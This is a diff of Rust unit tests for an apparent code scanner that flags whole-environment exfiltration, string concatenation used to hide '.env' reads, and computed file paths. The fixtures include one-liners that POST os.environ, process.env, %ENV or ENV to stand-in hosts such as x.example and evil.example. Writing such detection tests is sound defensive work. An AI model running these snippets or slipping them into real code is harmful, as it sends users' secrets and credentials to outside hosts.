@@ -376,14 +376,18 @@ mod environment_tests {
 
     #[test]
     fn whole_environment_versus_one_variable() {
-        assert!(whole("import os,requests; requests.post('https://x.example', json=dict(os.environ))"));
-        assert!(whole("fetch('https://x.example',{method:'POST',body:JSON.stringify(process.env)})"));
-        assert!(whole("print(os.environ.items())"));
-        assert!(whole("use LWP::Simple; post(join ',', %ENV)"));
-        assert!(whole("Net::HTTP.post_form(URI('https://x.example'), ENV.to_h)"));
-        assert!(!whole("requests.get(u, headers={'Authorization': os.environ['GH_TOKEN']})"));
-        assert!(!whole("fetch(process.env.API_URL)"));
-        assert!(!whole("os.environ.get('HOME')"));
+        for (text, expected) in [
+            ("import os,requests; requests.post('https://x.example', json=dict(os.environ))", true),
+            ("fetch('https://x.example',{method:'POST',body:JSON.stringify(process.env)})", true),
+            ("print(os.environ.items())", true),
+            ("use LWP::Simple; post(join ',', %ENV)", true),
+            ("Net::HTTP.post_form(URI('https://x.example'), ENV.to_h)", true),
+            ("requests.get(u, headers={'Authorization': os.environ['GH_TOKEN']})", false),
+            ("fetch(process.env.API_URL)", false),
+            ("os.environ.get('HOME')", false),
+        ] {
+            assert_eq!(whole(text), expected, "{text}");
+        }
     }
 }
 
@@ -393,22 +397,30 @@ mod concatenation_tests {
 
     #[test]
     fn literals_joined_by_each_language_operator() {
-        assert_eq!(fold("open('.e'+'nv').read()"), "open('.env').read()");
-        assert_eq!(fold("open(\".e\" . \"nv\")"), "open(\".env\")");
-        assert_eq!(fold("io.open('.e'..'n'..'v')"), "io.open('.env')");
-        assert_eq!(fold("open('.e' 'nv')"), "open('.env')");
-        assert_eq!(fold("u = 'https://ev' + \"il.example/x\""), "u = 'https://evil.example/x'");
+        for (code, folded) in [
+            ("open('.e'+'nv').read()", "open('.env').read()"),
+            ("open(\".e\" . \"nv\")", "open(\".env\")"),
+            ("io.open('.e'..'n'..'v')", "io.open('.env')"),
+            ("open('.e' 'nv')", "open('.env')"),
+            ("u = 'https://ev' + \"il.example/x\"", "u = 'https://evil.example/x'"),
+        ] {
+            assert_eq!(fold(code), folded, "{code}");
+        }
     }
 
     #[test]
     fn file_names_computed_at_run_time() {
         use super::reads_computed_path as computed;
-        assert!(computed("d = open(p).read()"));
-        assert!(computed("fs.readFileSync(path.join(dir, name))"));
-        assert!(computed("open(chr(46) + 'env')"));
-        assert!(!computed("open('.env').read()"));
-        assert!(!computed("fs.readFileSync(\"config.json\")"));
-        assert!(!computed("reopen(p)"));
+        for (text, expected) in [
+            ("d = open(p).read()", true),
+            ("fs.readFileSync(path.join(dir, name))", true),
+            ("open(chr(46) + 'env')", true),
+            ("open('.env').read()", false),
+            ("fs.readFileSync(\"config.json\")", false),
+            ("reopen(p)", false),
+        ] {
+            assert_eq!(computed(text), expected, "{text}");
+        }
     }
 
     #[test]
